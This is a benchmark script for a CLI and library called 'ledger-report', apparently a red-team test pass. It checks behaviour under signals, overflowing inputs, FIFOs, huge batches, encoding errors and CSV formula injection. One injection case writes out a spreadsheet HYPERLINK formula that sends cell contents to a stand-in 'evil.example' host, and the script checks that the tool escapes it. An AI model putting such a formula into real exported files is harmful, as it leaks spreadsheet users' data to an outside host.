"""Every case of issue #27 (the red-team pass), run as a real command or library call in a
temporary folder; one line per case.

    python bench/hostile_cases.py              # every case: a few minutes on 2 cores
    python bench/hostile_cases.py -k plan      # the cases whose group or name holds "plan"
    python bench/hostile_cases.py --largest    # and the largest build accepted (MAX_BUILD_CONFIGS rows)

Each line: the group of the issue's "Why" it belongs to, the case, how it ran (``cli``: the
``ledger-report`` command in a subprocess; ``lib``: a call of the library in this process;
``signal``: a subprocess signalled or killed), the exit status (a library call: ``returned`` or
the class of what it raised), the wall seconds (a signal case: from the signal until the command
ended) and the CPU seconds of the subprocesses (the machines are shared: CPU is the steadier
figure), whether the input files are byte-identical (``same``), whether any temporary or hidden
file was left beside them or the outputs (``none``), whether any process of the case outlived it
by 10 s (``none``), and the verdict against the issue's bar: ``ok`` when the case exits 0 with the
result the tests check, or 1 with one line naming the file, the row (and the column) within 10 s
(60 s for a planner search), with no traceback and no "internal error"; else ``FAIL`` and why.

The inputs are the tests' own (tests/hostile/*.py, tests/files.py), rebuilt here.  Exit status 1
when a case fails.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))  # files.py: the workbooks the reader tests build
sys.path.insert(0, str(ROOT / "bench"))  # example_rows.py: varied valid rows

from support.jobs import NARROW, QWEN3_8B_JOB  # noqa: E402
from support.procs import alive, children, running_on, wait_for  # noqa: E402

LIMIT_S = 10.0  # the bar for every case
PLAN_LIMIT_S = 60.0  # and for a planner search

JOB = QWEN3_8B_JOB  # docs/scenarios.md's job, as the red-team pass ran it


# ---- one run ----------------------------------------------------------------------------------
@dataclass
class Run:
    exit: str
    wall_s: float
    text: str = ""  # stderr of a command, the message of what a call raised
    out: str = ""  # stdout of a command
    cpu_s: float | None = None
    value: Any = None  # what a library call returned
    note: str = ""  # an expectation the case's own check found broken
    lines: int = 1  # lines an exit-1 message may take
    limit_s: float = LIMIT_S


def _children_cpu() -> float:
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def _cli_argv(*args: Any) -> list[str]:
    return [sys.executable, "-m", "ledger_report", *map(str, args)]


def cli(tmp: Path, *args: Any, timeout: float = 300, argv: list[str] | None = None) -> Run:
    """``ledger-report ARGS`` (or ``argv``) in ``tmp/in``."""
    _mark_inputs(tmp)
    cpu, start = _children_cpu(), time.perf_counter()
    try:
        proc = subprocess.run(
            argv or _cli_argv(*args), cwd=tmp / "in", capture_output=True, timeout=timeout
        )
    except subprocess.TimeoutExpired:
        return Run("timeout", time.perf_counter() - start, note=f"still running after {timeout} s")
    return Run(
        str(proc.returncode),
        time.perf_counter() - start,
        proc.stderr.decode(errors="replace"),
        proc.stdout.decode(errors="replace"),
        cpu_s=_children_cpu() - cpu,
    )


# A command run with one os function wrapped: after its n-th call (done), the process sends
# itself a signal; or (fsync) it marks a file and sleeps, to be signalled from outside.
_HOOKED = """
import os, signal, sys, time
kind, nth, signum, marker = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
real, calls = getattr(os, kind), []
def hooked(*a, **k):
    result = real(*a, **k)
    calls.append(a)
    if len(calls) == nth:
        if signum:
            os.kill(os.getpid(), signum)
        else:
            open(marker, "w").close()
            time.sleep(30)
    return result
setattr(os, kind, hooked)
from ledger_report.cli import main
sys.argv = ["ledger-report", *sys.argv[5:]]
main()
"""


def hooked_argv(kind: str, nth: int, signum: int, marker: Path | str, *args: Any) -> list[str]:
    return [
        sys.executable,
        "-c",
        _HOOKED,
        kind,
        str(nth),
        str(signum),
        str(marker),
        *map(str, args),
    ]


def call(fn: Callable[[], Any]) -> Run:
    """A library call in this process."""
    start = time.perf_counter()
    try:
        value = fn()
    except Exception as exc:  # noqa: BLE001 - reported, as the case's exit
        return Run(type(exc).__name__, time.perf_counter() - start, str(exc))
    return Run("returned", time.perf_counter() - start, value=value)


def expect(run: Run, exit: int | str, *phrases: str, stdout: bool = False) -> Run:
    """The case's own check: the exit status and phrases its message (or stdout) must hold."""
    broken = []
    if run.exit != str(exit):
        broken.append(f"exit {run.exit}, expected {exit}")
    text = run.out if stdout else run.text
    missing = [p for p in phrases if p not in text]
    if missing:
        broken.append(f"no {missing[0]!r} in {_first_line(text)!r}")
    run.note = "; ".join([run.note, *broken]).strip("; ")
    return run


def _first_line(text: str) -> str:
    line = (text.strip().splitlines() or [""])[0]
    return line if len(line) <= 120 else line[:117] + "..."


# ---- what a case leaves behind ----------------------------------------------------------------
def _snapshot(folder: Path) -> dict[str, Any]:
    """Every entry under ``folder`` (not following links): its bytes, link target or kind."""
    out: dict[str, Any] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]:
            path = os.path.join(dirpath, name)
            rel = os.path.relpath(path, folder)
            if os.path.islink(path):
                out[rel] = ("link", os.readlink(path))
            elif os.path.isfile(path):
                with open(path, "rb") as fh:
                    out[rel] = fh.read()
            else:
                out[rel] = ("special",)
    return out


def _stray_files(tmp: Path, before: set[str]) -> list[str]:
    """Temporary or hidden files under ``tmp`` that were not there before the case."""
    out = []
    for dirpath, _dirs, filenames in os.walk(tmp):
        for name in filenames:
            rel = os.path.relpath(os.path.join(dirpath, name), tmp)
            if rel not in before and (name.startswith(".") or name.endswith(".tmp")):
                out.append(rel)
    return out


# ---- the cases --------------------------------------------------------------------------------
@dataclass
class Case:
    group: str
    name: str
    how: str
    run: Callable[[Path], Run]
    opt_in: bool = False


CASES: list[Case] = []


def case(group: str, name: str, how: str = "cli", opt_in: bool = False):
    def add(fn: Callable[[Path], Run]) -> Callable[[Path], Run]:
        CASES.append(Case(group, name, how, fn, opt_in))
        return fn

    return add


def write_rows(folder: Path, rows: list[dict[str, Any]], name: str = "jobs.csv") -> Path:
    columns = list(dict.fromkeys(k for r in rows for k in r))
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path = folder / name
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def example_rows(folder: Path, n: int, name: str = "many.csv") -> Path:
    """``n`` rows of inputs/examples.csv, cycled and renamed apart (tests/hostile/test_signals.py),
    with the config.json files they name beside them."""
    with open(ROOT / "inputs" / "examples.csv", encoding="utf-8", newline="") as fh:
        base = list(csv.DictReader(fh))
    rows = [dict(base[k % len(base)], name=f"{base[k % len(base)]['name']}-{k}") for k in range(n)]
    _configs_beside(folder)
    return write_rows(folder, rows, name)


def varied(folder: Path, n: int, name: str = "sweep.csv") -> Path:
    """``n`` distinct valid rows (bench/example_rows.py)."""
    from example_rows import varied_rows

    _configs_beside(folder)
    return write_rows(folder, list(varied_rows(n)), name)


def _configs_beside(folder: Path) -> None:
    if not (folder / "configs").exists():
        os.symlink(ROOT / "inputs" / "configs", folder / "configs")


def _earlier_outputs(out: Path, names: dict[str, bytes]) -> dict[str, bytes]:
    out.mkdir(exist_ok=True)
    for name, data in names.items():
        (out / name).write_bytes(data)
    return names


def _folder(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(out.iterdir())} if out.exists() else {}


# -- data loss
@case("data loss", "plan plans.csv -o . (the input is DIR/plans.csv)")
def _plan_over_its_input(tmp: Path) -> Run:
    write_rows(tmp / "in", [{**JOB, **NARROW}], "plans.csv")
    return expect(cli(tmp, "plan", "plans.csv", "-o", ".", "-q", "-j", "1"), 1, "is the input file")


@case("data loss", "Ctrl-C after the 1st of 2 outputs is renamed in", "signal")
def _ctrl_c_at_swap(tmp: Path) -> Run:
    write_rows(tmp / "in", [{"name": "m", "params_total": "7B"}], "r.csv")
    out = tmp / "out"
    earlier = _earlier_outputs(out, {"r.xlsx": b"PK earlier", "r.json": b'{"earlier": true}\n'})
    args = ("build", "r.csv", "-o", out, "--format", "xlsx,json", "-q", "-j", "1")
    argv = hooked_argv("replace", 1, signal.SIGINT, "-", *args)
    run = expect(cli(tmp, argv=argv), 128 + signal.SIGINT, "stopped by SIGINT")
    if _folder(out) != earlier:
        run.note = "the earlier outputs were not put back"
    return run


@case("data loss", "kill -9 after the 1st output is renamed in; next build", "signal")
def _kill_at_swap(tmp: Path) -> Run:
    write_rows(tmp / "in", [{"name": "m", "params_total": "7B"}], "r.csv")
    out = tmp / "out"
    _earlier_outputs(out, {"r.xlsx": b"PK earlier", "r.json": b'{"earlier": true}\n'})
    args = ("build", "r.csv", "-o", out, "--format", "xlsx,json", "-q", "-j", "1")
    killed = cli(tmp, argv=hooked_argv("replace", 1, signal.SIGKILL, "-", *args))
    left = sorted(n for n in _folder(out) if n.startswith("."))
    run = expect(cli(tmp, *args), 0)
    run.exit, run.cpu_s = f"{killed.exit}, {run.exit}", (run.cpu_s or 0) + (killed.cpu_s or 0)
    if killed.exit != str(-signal.SIGKILL) or not left:
        run.note = "the kill did not leave the swap half done"
    elif sorted(_folder(out)) != ["r.json", "r.xlsx"]:
        run.note = f"left after the next build: {sorted(_folder(out))}"
    elif json.loads(_folder(out)["r.json"])["configs"][0]["name"] != "m":
        run.note = "the next build's JSON is not its own"
    return run


# -- processes left behind
def _signal_the_build(tmp: Path, signum: int) -> Run:
    """`build -j 2` of 24 rows (each handout worker's part bigger than a pipe's 64 KiB), signalled
    once its workers are seen, as tests/hostile/test_signals.py does."""
    example_rows(tmp / "in", 24)
    out = tmp / "out"
    err_path = tmp / "stderr.txt"
    _mark_inputs(tmp)
    cpu = _children_cpu()
    with open(err_path, "wb") as err:  # a file: a worker left behind would hold a pipe open
        proc = subprocess.Popen(
            _cli_argv("build", "many.csv", "-o", out, "-j", "2", "-q"),
            cwd=tmp / "in",
            stdout=subprocess.DEVNULL,
            stderr=err,
        )
    workers: set[int] = set()

    def two_workers() -> bool:
        workers.update(children(proc.pid))
        return len(workers) >= 2 or proc.poll() is not None

    try:
        if not wait_for(two_workers, 240) or proc.poll() is not None:
            return Run(str(proc.poll()), 0.0, note="the build never forked its workers")
        time.sleep(0.5)
        start = time.perf_counter()
        proc.send_signal(signum)
        proc.wait(timeout=60)
        wall = time.perf_counter() - start
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    left = [pid for pid in workers if not wait_for(lambda p=pid: not alive(p), 10)]
    run = Run(str(proc.returncode), wall, err_path.read_text(), cpu_s=_children_cpu() - cpu)
    err_path.unlink()
    if left:
        run.note = f"{len(left)} worker(s) alive 10 s after"
    if _folder(out):
        run.note = f"wrote {sorted(_folder(out))}"
    return run


@case("processes", "kill -9 to build -j 2 while the handout renders", "signal")
def _kill_the_build(tmp: Path) -> Run:
    return expect(_signal_the_build(tmp, signal.SIGKILL), -signal.SIGKILL)


@case("processes", "SIGTERM (as `timeout` sends) to build -j 2 mid-handout", "signal")
def _term_the_build(tmp: Path) -> Run:
    run = _signal_the_build(tmp, signal.SIGTERM)
    run.lines = 1
    return expect(run, 128 + signal.SIGTERM, "Error: stopped by SIGTERM")


@case("processes", "SIGTERM once a temp output is written and synced", "signal")
def _term_while_writing(tmp: Path) -> Run:
    write_rows(tmp / "in", [{"name": "m", "params_total": "7B"}], "r.csv")
    out = tmp / "out"
    earlier = _earlier_outputs(out, {"r.xlsx": b"PK earlier", "r.json": b"{}\n"})
    marker = tmp / "temp-written"
    argv = hooked_argv("fsync", 1, 0, marker, "build", "r.csv", "-o", out, "--format", "xlsx,json")
    _mark_inputs(tmp)
    cpu = _children_cpu()
    proc = subprocess.Popen(argv, cwd=tmp / "in", stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        if not wait_for(marker.exists, 120):
            return Run(str(proc.poll()), 0.0, note="the temp file was never written")
        had_temp = any(n.endswith(".tmp") for n in _folder(out))
        start = time.perf_counter()
        proc.send_signal(signal.SIGTERM)
        _out, err = proc.communicate(timeout=30)
        wall = time.perf_counter() - start
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    marker.unlink()
    run = Run(str(proc.returncode), wall, err.decode(), cpu_s=_children_cpu() - cpu)
    run = expect(run, 128 + signal.SIGTERM, "stopped by SIGTERM")
    if not had_temp:
        run.note = "no temp file was there to leave"
    elif _folder(out) != earlier:
        run.note = "the earlier outputs changed"
    return run


# -- formula injection
HOSTILE_NAME, HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1"


@case("injection", "plan -o: names and notes starting = + in plans.csv")
def _plans_csv_injection(tmp: Path) -> Run:
    write_rows(tmp / "in", [{**JOB, **NARROW, "name": HOSTILE_NAME, "notes": HOSTILE_NOTE}])
    run = expect(cli(tmp, "plan", "jobs.csv", "-o", tmp / "out", "--top", "1", "-q", "-j", "1"), 0)
    run.limit_s = PLAN_LIMIT_S
    path = tmp / "out" / "plans.csv"
    if path.exists():
        (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
        # the plan's name and notes begin with the row's: each cell with an apostrophe before it
        if not (
            row["name"].startswith("'" + HOSTILE_NAME)
            and row["notes"].startswith("'" + HOSTILE_NOTE)
        ):
            run.note = f"plans.csv holds {row['name']!r}, {row['notes']!r}"
    return run


@case("injection", "calc --csv: a name starting = -")
def _calc_csv_injection(tmp: Path) -> Run:
    (tmp / "in" / "jobs.csv").write_text("name,params_total\n=1+2,7B\n-x,7B\n", encoding="utf-8")
    run = expect(cli(tmp, "calc", "jobs.csv", "--csv"), 0)
    names = [r["name"] for r in csv.DictReader(io.StringIO(run.out))]
    if names != ["'=1+2", "'-x"]:
        run.note = f"names written {names}"
    return run


# -- "internal error"
@case("internal error", "plan, tokens 30,000 (seq 8192, gb 384)")
def _plan_tokens_small(tmp: Path) -> Run:
    write_rows(tmp / "in", [{**JOB, **NARROW, "tokens": 30_000}])
    run = expect(cli(tmp, "plan", "jobs.csv", "--top", "1", "-q", "-j", "1"), 0)
    run.limit_s = PLAN_LIMIT_S
    return run


@case("internal error", "plan, tokens 100,002,713,120 (seq 8192, gb 384)")
def _plan_tokens_large(tmp: Path) -> Run:
    write_rows(tmp / "in", [{**JOB, **NARROW, "tokens": 100_002_713_120}])
    run = expect(cli(tmp, "plan", "jobs.csv", "--top", "1", "-q", "-j", "1"), 0)
    run.limit_s = PLAN_LIMIT_S
    return run


OVERFLOW = [("days", "1e308"), ("mfu", "5e-324"), ("peak_tflops", "1e308")]
OVERFLOW += [("efficiency_scale", "1e-308")]
COMMANDS = [("calc",), ("calc", "--json"), ("calc", "--csv"), ("plan", "-q"), ("build",)]


def _overflow_case(column: str, value: str, command: tuple[str, ...]):
    def run_it(tmp: Path) -> Run:
        write_rows(tmp / "in", [{**JOB, column: value}])
        extra = ("-o", tmp / "out") if command == ("build",) else ()
        run = expect(cli(tmp, *command, "jobs.csv", *extra), 1, "jobs.csv", "line 2", column)
        if (tmp / "out").exists():
            run.note = "build wrote an output"
        return run

    return run_it


for _column, _value in OVERFLOW:
    for _command in COMMANDS:
        case("internal error", f"{' '.join(_command[:2]).replace(' -q', '')}, {_column}={_value}")(
            _overflow_case(_column, _value, _command)
        )

TEXT = [("notes with U+FFFF", "a\uffffb"), ("notes of 20,000 emoji", "\U0001f600" * 20_000)]
for _label, _text in TEXT:
    for _command in (("calc",), ("build",)):

        def _text_case(tmp: Path, text: str = _text, command: tuple[str, ...] = _command) -> Run:
            write_rows(tmp / "in", [{"name": "a", "params_total": "7B", "notes": text}])
            extra = ("-o", tmp / "out") if command == ("build",) else ()
            return expect(cli(tmp, *command, "jobs.csv", *extra), 1, "line 2", '"notes"')

        case("internal error", f"{_command[0]}, {_label}")(_text_case)


@case("internal error", "calc, a config.json nested 2,000 deep")
def _deep_json(tmp: Path) -> Run:
    (tmp / "in" / "deep.json").write_text('{"a": ' + "[" * 2000 + "]" * 2000 + "}")
    write_rows(tmp / "in", [{"name": "a", "model": "deep.json"}])
    return expect(cli(tmp, "calc", "jobs.csv"), 1, "line 2", '"model"', "2,001 levels")


@case("internal error", "calc, a config.json with a 5,000-digit number")
def _big_number_json(tmp: Path) -> Run:
    (tmp / "in" / "big.json").write_text(
        '{"model_type": "llama", "num_hidden_layers": ' + "9" * 5000 + "}"
    )
    write_rows(tmp / "in", [{"name": "b", "model": "big.json"}])
    return expect(cli(tmp, "calc", "jobs.csv"), 1, "line 2", '"model"', "4,300 digits")


@case("internal error", "plan --prices of a file with a BOM")
def _prices_bom(tmp: Path) -> Run:
    write_rows(tmp / "in", [{**JOB, **NARROW}])
    (tmp / "in" / "prices.csv").write_bytes(b"\xef\xbb\xbfgpu,price\nH100-SXM,2.5\n")
    run = cli(tmp, "plan", "jobs.csv", "--prices", "prices.csv", "--top", "1", "--json", "-q")
    run = expect(run, 0)
    run.limit_s = PLAN_LIMIT_S
    if run.exit == "0" and json.loads(run.out)["plans"][0]["row"]["gpu"] != "H100-SXM":
        run.note = "the plan is not on the priced GPU"
    return run


# -- unbounded work
@case("unbounded", "calc of a FIFO nobody writes to")
def _fifo(tmp: Path) -> Run:
    os.mkfifo(tmp / "in" / "inputs.csv")
    return expect(cli(tmp, "calc", "inputs.csv", timeout=30), 1, "a named pipe (FIFO)")


for _suffix in ("csv", "xlsx"):

    def _dev_zero(tmp: Path, suffix: str = _suffix) -> Run:
        (tmp / "in" / f"inputs.{suffix}").symlink_to("/dev/zero")
        return expect(cli(tmp, "calc", f"inputs.{suffix}", timeout=30), 1, "a character device")

    case("unbounded", f"calc of a symlink to /dev/zero (.{_suffix})")(_dev_zero)


@case("unbounded", "calc, global_batch 10^16 - 1 (micro_batch 9)")
def _global_batch_huge(tmp: Path) -> Run:
    write_rows(tmp / "in", [{**JOB, "global_batch": 10**16 - 1, "micro_batch": 9, "dp": 11}])
    return expect(cli(tmp, "calc", "jobs.csv"), 1, "line 2", '"global_batch"', "1,099,511,627,776")


@case("unbounded", "calc, global_batch 9 x 11 x 99,949,999,997 (a prime)")
def _global_batch_at_bound(tmp: Path) -> Run:
    gb = 9 * 11 * 99_949_999_997
    row = {**JOB, "global_batch": gb, "micro_batch": 9, "dp": 11, "tokens": 10**16}
    write_rows(tmp / "in", [row])
    return expect(cli(tmp, "calc", "jobs.csv", "--csv"), 0)


for _gb, _count in ((55_440, "74,882,880 candidates"), (720_720, "candidates")):

    def _planner_cap(tmp: Path, gb: int = _gb, count: str = _count) -> Run:
        write_rows(tmp / "in", [{**JOB, "global_batch": gb}])
        run = cli(tmp, "plan", "jobs.csv", "-q")
        return expect(run, 1, "line 2", '"global_batch"', count, "--max-candidates")

    case("unbounded", f"plan, global_batch {_gb:,} (no layout fixed)")(_planner_cap)


@case("unbounded", "calc, layers = 10^8")
def _layers(tmp: Path) -> Run:
    write_rows(tmp / "in", [{**JOB, "layers": 10**8}])
    return expect(cli(tmp, "calc", "jobs.csv"), 1, "line 2", '"layers"')


@case("unbounded", "calc, a header of 10^6 unknown columns")
def _wide_header(tmp: Path) -> Run:
    n = 10**6
    (tmp / "in" / "wide.csv").write_text(f"name,{','.join('x' * n)}\na,{','.join('1' * n)}\n")
    run = expect(cli(tmp, "calc", "wide.csv"), 1, "at most 16,384 columns")
    if len(run.text) > 2_000:
        run.note = f"a message of {len(run.text):,} characters"
    return run


@case("unbounded", "calc, a currency of 32,767 characters")
def _long_currency(tmp: Path) -> Run:
    write_rows(tmp / "in", [{"name": "m", "params_total": "7B", "currency": "X" * 32_767}])
    return expect(cli(tmp, "calc", "jobs.csv"), 1, "line 2", '"currency"', "at most 16 characters")


@case("unbounded", "build of 2,000 rows")
def _build_2000(tmp: Path) -> Run:
    from ledger_report.render.limits import MAX_BUILD_CONFIGS

    varied(tmp / "in", 2000)
    run = cli(tmp, "build", "sweep.csv", "-o", tmp / "out")
    run = expect(run, 1, f"line {MAX_BUILD_CONFIGS + 2}", f"at most {MAX_BUILD_CONFIGS:,}")
    if (tmp / "out").exists():
        run.note = "wrote an output"
    return run


@case("unbounded", "build -j 2 of the largest accepted input", opt_in=True)
def _largest_build(tmp: Path) -> Run:
    from ledger_report.render.limits import MAX_BUILD_CONFIGS

    varied(tmp / "in", MAX_BUILD_CONFIGS)
    run = expect(cli(tmp, "build", "sweep.csv", "-o", tmp / "out", "-j", "2", "-q"), 0)
    run.limit_s = 120.0  # about a minute is the bound's aim; on a shared machine, twice that
    if sorted(_folder(tmp / "out")) != ["sweep.json", "sweep.pdf", "sweep.xlsx"]:
        run.note = f"wrote {sorted(_folder(tmp / 'out'))}"
    return run


# -- wrong figures
@case("wrong figures", "build, 2 x 1,048,583 micro-batches (past a sheet's rows)")
def _big_batch(tmp: Path) -> Run:
    arch = {"layers": 32, "hidden": 4096, "heads": 32, "kv_heads": 8, "ffn_hidden": 14336}
    row = {"name": "slots-2p", **arch, "vocab": 128256, "seq_len": 8192, "days": 30}
    row.update(gpu="H100-SXM", dp=2, global_batch=2 * 1_048_583, tokens=10**15)
    write_rows(tmp / "in", [row])
    run = expect(cli(tmp, "build", "jobs.csv", "-o", tmp / "out", "--format", "xlsx"), 0)
    sweep = cli(tmp, "calc", "jobs.csv", "--csv")
    (got,) = csv.DictReader(io.StringIO(sweep.out))
    # by hand: 2 x 1,048,583 (a prime) has the divisors 1, 2, 1,048,583 and its double
    if got["dp_for_deadline"] != "1048583":
        run.note = f"dp_for_deadline {got['dp_for_deadline']}, by hand 1,048,583"
    # ROW(INDIRECT("1:"&n)) broke past a sheet's 1,048,576 rows; the formulas walk the divisor
    # pairs up to INT(SQRT(n)), at most 2^20 rows for the reader's 2^40 micro-batches (LibreOffice's
    # recalculation of such rows: tests/test_workbook.py, test_minimum_gpus_past_a_sheets_rows_...)
    book = tmp / "out" / "jobs.xlsx"
    if book.exists():
        with zipfile.ZipFile(book) as zf:
            xml = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".xml"))
        walks = xml.split(b'ROW(INDIRECT("1:"&amp;')[1:]
        if not walks or not all(w.startswith(b"INT(SQRT(") for w in walks):
            run.note = "a ROW(INDIRECT(...)) walk that is not bounded by a square root"
    return run


@case("wrong figures", "calc of a UTF-8 file with one GBK line")
def _mixed_encoding(tmp: Path) -> Run:
    (tmp / "in" / "mixed.csv").write_bytes(
        "name,params_total,notes\n模型一,7B,中文\n".encode()
        + "模型二,7B,中文\n".encode("gbk")
        + "模型三,7B,好\n".encode()
    )
    return expect(cli(tmp, "calc", "mixed.csv"), 1, "line 3", "line 2 is UTF-8")


for _old, _new, _label in ((4, 3, "numbered twice"), (2, 9, "numbered backwards")):

    def _renumbered(tmp: Path, old: int = _old, new: int = _new) -> Run:
        from files import rewrite_entry, write_xlsx

        rows = [["name", "params_total"], ["a", "7B"], ["b", "8B"], ["c", "9B"]]
        path = write_xlsx(tmp / "in", rows)

        def change(xml: bytes) -> bytes:
            for a, b in ((f'<row r="{old}"', f'<row r="{new}"'), (f'r="A{old}"', f'r="A{new}"')):
                xml = xml.replace(a.encode(), b.encode())
            return xml.replace(f'r="B{old}"'.encode(), f'r="B{new}"'.encode())

        rewrite_entry(path, "xl/worksheets/sheet1.xml", change)
        return expect(cli(tmp, "calc", "inputs.xlsx"), 1, "row 3", "rows in increasing order")

    case("wrong figures", f"calc of an .xlsx with rows {_label}")(_renumbered)


# -- the library
RECORDS = [
    {"name": "a", "params_total": "7B", "dp": 8, "mfu": None},
    {"name": "b", "params_total": 70e9, "dp": 16, "zero": 1},
]


def _same_as_list(got: Run) -> Run:
    import ledger_report as lr

    want = [lg.values["state_bytes_per_rank"] for lg in lr.compute(RECORDS)]
    if got.exit == "returned":
        found = [lg.values["state_bytes_per_rank"] for lg in got.value]
        if found != want[: len(found)] or not found:
            got.note = "not the ledgers the list gives"
    return expect(got, "returned")


for _label, _make in (
    ("a tuple", lambda: tuple(RECORDS)),
    ("a generator", lambda: (r for r in RECORDS)),
    ("a dict", lambda: RECORDS[0]),
    ("[Config, dict]", lambda: [__import__("ledger_report").read(RECORDS[:1])[0], RECORDS[1]]),
):

    def _lib_compute(tmp: Path, make=_make) -> Run:
        import ledger_report as lr

        return _same_as_list(call(lambda: lr.compute(make())))

    case("library", f"lr.compute of {_label}", "lib")(_lib_compute)

PLAN_ROW = {"name": "p", "params_total": "8B", "tokens": "1B", "days": 30}
PLAN_ROW.update(seq_len=4096, global_batch=64)


@case("library", 'lr.plan(prices={"H100-SXM": "cheap"})', "lib")
def _cheap(tmp: Path) -> Run:
    import ledger_report as lr

    return expect(call(lambda: lr.plan(PLAN_ROW, prices={"H100-SXM": "cheap"})), "InputError")


@case("library", "lr.plan(top=0)", "lib")
def _top_zero(tmp: Path) -> Run:
    import ledger_report as lr

    return expect(call(lambda: lr.plan(PLAN_ROW, top=0)), "ValueError", "top")


@case("library", "lr.compute with np.bool_, np.int64, np.float64 cells", "lib")
def _numpy_cells(tmp: Path) -> Run:
    import numpy as np

    import ledger_report as lr

    row = {"name": "x", "params_total": "8B", "dp": np.int64(8), "mfu": np.float64(0.4)}
    row["compile"] = np.bool_(True)
    run = expect(call(lambda: lr.compute(row)), "returned")
    plain = lr.compute({"name": "x", "params_total": "8B", "dp": 8, "mfu": 0.4, "compile": True})
    if run.value and run.value[0].values["step_time_s"] != plain[0].values["step_time_s"]:
        run.note = "not what the plain values give"
    return run


@case("library", "two render_pdf threads: SOURCE_DATE_EPOCH left unset", "lib")
def _pdf_threads(tmp: Path) -> Run:
    import ledger_report as lr
    from ledger_report.render.handout import render_pdf

    os.environ.pop("SOURCE_DATE_EPOCH", None)
    ledgers = lr.compute({"name": "m", "params_total": "7B"})
    errors: list[BaseException] = []

    def render() -> None:
        try:
            render_pdf(ledgers, jobs=1)
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    def both() -> bool:
        threads = [threading.Thread(target=render) for _ in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        if errors:
            raise errors[0]
        return "SOURCE_DATE_EPOCH" in os.environ

    run = expect(call(both), "returned")
    if run.value:
        run.note = "SOURCE_DATE_EPOCH left set"
    return run


@case("library", "lr.to_frame (pandas a dependency of the package)", "lib")
def _to_frame(tmp: Path) -> Run:
    import tomllib

    import ledger_report as lr

    run = expect(call(lambda: lr.to_frame(RECORDS)), "returned")
    deps = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    if not any(d.replace(" ", "").startswith("pandas") for d in deps):
        run.note = "pandas is not among the package's dependencies"
    elif run.value is not None and list(run.value["name"]) != ["a", "b"]:
        run.note = "not a row per configuration"
    return run


@case("library", "lr.build naming every row no output can hold (4 of 8)", "lib")
def _every_non_finite_row(tmp: Path) -> Run:
    import ledger_report as lr
    from ledger_report.config import Config

    good = lr.read({**JOB, "mfu": 0.4})[0]
    configs = []
    for k in range(8):
        values = {**good.values, "name": f"r{k}"}
        if k % 2:
            column, value = OVERFLOW[k // 2]
            values[column] = float(value)
        configs.append(Config(values, f"jobs.csv line {k + 2}"))
    run = expect(call(lambda: lr.build(configs, tmp / "out", ["json"])), "NotFiniteError")
    run.lines = 4
    named = [line.split(",")[0] for line in run.text.splitlines()]
    if named != [f"jobs.csv line {n}" for n in (3, 5, 7, 9)]:
        run.note = f"named {named}"
    run.text = "Error: " + run.text  # as the command line prints it
    return run


# -- verdicts and counts
@case("verdicts", "calc, params_total 5T alone on an 80 GB GPU")
def _bare_5t(tmp: Path) -> Run:
    write_rows(tmp / "in", [{"name": "big", "params_total": "5T", "hbm_gb": 80}])
    return expect(cli(tmp, "calc", "jobs.csv"), 0, "memory verdict: does not fit", stdout=True)


@case("verdicts", "models: gpt-oss-120b and Kimi-K2 active parameters as the cards")
def _card_counts(tmp: Path) -> Run:
    run = expect(cli(tmp, "models", "--json"), 0)
    if run.exit == "0":
        active = {m["name"]: m["params_active_card"] for m in json.loads(run.out)}
        # the cards: gpt-oss-120b 5.13B active (arXiv 2508.10925 Table 1), Kimi K2 32B
        if round(active["gpt-oss-120b"] / 1e9, 2) != 5.13 or round(active["Kimi-K2"] / 1e9) != 32:
            run.note = f"gpt-oss-120b {active['gpt-oss-120b']:,}, Kimi-K2 {active['Kimi-K2']:,}"
    return run


# -- pins
@case("pins", "pyproject.toml: floors only", "lib")
def _pins(tmp: Path) -> Run:
    import tomllib
    from packaging.requirements import Requirement

    def capped() -> list[str]:
        project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
        specs = list(project["dependencies"])
        for extra in project.get("optional-dependencies", {}).values():
            specs.extend(extra)
        ok = (">=", ">", "!=")
        return [s for s in specs for c in Requirement(s).specifier if c.operator not in ok]

    run = expect(call(capped), "returned")
    if run.value:
        run.note = f"capped: {run.value}"
    return run


# ---- the driver -------------------------------------------------------------------------------
@dataclass
class Line:
    case: Case
    run: Run
    input_same: str
    temps: list[str] = field(default_factory=list)
    procs: list[int] = field(default_factory=list)

    def verdict(self) -> str:
        run, why = self.run, [self.run.note] if self.run.note else []
        text = run.text + run.out
        if "Traceback" in text or "internal error" in text:
            why.append("a traceback or internal error")
        if run.exit == "1":
            lines = run.text.strip().splitlines()
            if not lines or not lines[0].startswith("Error: ") or len(lines) > run.lines:
                why.append(f"not a one-line message: {_first_line(run.text)!r}")
        if run.wall_s > run.limit_s:
            why.append(f"over {run.limit_s:g} s")
        if self.input_same == "CHANGED":
            why.append("the input changed")
        if self.temps:
            why.append(f"left {self.temps[:3]}")
        if self.procs:
            why.append(f"{len(self.procs)} process(es) left")
        return "ok" if not why else "FAIL: " + "; ".join(why)


def run_case(c: Case) -> Line:
    """The case in a fresh temp folder, then what it left: the inputs as its first command found
    them, files that were not there then, processes that name the folder 10 s on (killed)."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as name:
        tmp = Path(name)
        (tmp / "in").mkdir()
